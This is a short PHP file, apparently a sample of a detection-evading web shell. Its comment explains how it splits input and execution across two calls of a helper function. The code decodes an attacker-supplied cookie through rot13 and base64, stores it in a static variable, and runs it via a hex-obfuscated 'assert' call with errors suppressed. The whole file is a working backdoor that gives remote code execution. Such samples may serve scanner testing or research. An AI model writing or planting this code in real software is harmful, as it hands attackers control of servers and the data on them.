<?php
// The payload is parked in a function's static variable on one call and fetched on the next:
// the input and the eval are in different calls of the same helper.
function k3($v = null)
{
    static $m;
    if ($v !== null) {
        $m = $v;
        return null;
    }
    return $m;
}
k3(base64_decode(str_rot13($_COOKIE['sess'] ?? '')));
$r = "\x61\x73\x73\x65\x72\x74";
@$r(k3());
